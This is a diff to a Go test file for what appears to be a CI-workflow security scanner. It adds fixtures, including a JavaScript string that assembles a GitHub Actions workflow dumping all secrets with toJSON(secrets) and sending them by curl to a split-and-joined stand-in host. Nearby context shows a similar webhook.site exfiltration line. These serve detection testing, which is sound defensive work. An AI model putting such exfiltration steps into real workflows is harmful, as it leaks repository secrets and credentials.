@@ -232,6 +232,10 @@ func TestCIWorkflow(t *testing.T) {
 			`npm publish && curl -H "Authorization: Bearer $GH" https://api.github.com/repos/o/r/releases && curl -X POST -H "X-Key: ${{ secrets.DEPLOY_KEY }}" https://deploy.example.com/hook && curl -d "done" https://hooks.slack.com/services/${{ secrets.SLACK_PATH }}`)}, finding.SeverityNone},
 		// documentation of the attack is not a workflow the package ships
 		{"docs", map[string]string{"docs/attacks.md": wf("ALL: ${{ toJSON(secrets) }}", `curl -d "$ALL" https://webhook.site/x`)}, finding.SeverityNone},
+		// the workflow as text in code, joined from lines; a scaffolder's
+		// release workflow using one secret for npm
+		{"code_text_all_secrets", map[string]string{"lib/wf.js": "const ep = ['https://c', 'example.invalid/u'].join('.'); exports.render = () => ['on: [push]', 'jobs:', '  x:', '    runs-on: ubuntu-latest', '    steps:', '      - env:', '          ALL: ' + '$' + '{{ toJSON(secrets) }}', `        run: echo \"$ALL\" | curl -s --data-binary @- ${ep}`].join('\\n')"}, finding.SeverityCritical},
+		{"code_text_release", map[string]string{"lib/wf.js": "exports.render = () => ['on: [push]', 'jobs:', '  x:', '    runs-on: ubuntu-latest', '    steps:', '      - run: npm publish', '        env:', '          NODE_AUTH_TOKEN: ' + '$' + '{{ secrets.NPM_TOKEN }}'].join('\\n')"}, finding.SeverityNone},
 	})
 }
 
